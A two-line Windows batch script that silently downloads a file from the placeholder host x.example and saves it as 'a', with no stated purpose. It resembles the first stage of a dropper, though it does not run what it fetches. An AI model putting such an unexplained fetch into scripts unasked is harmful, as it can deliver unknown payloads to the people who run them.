@echo off
curl http://x.example/a -o a
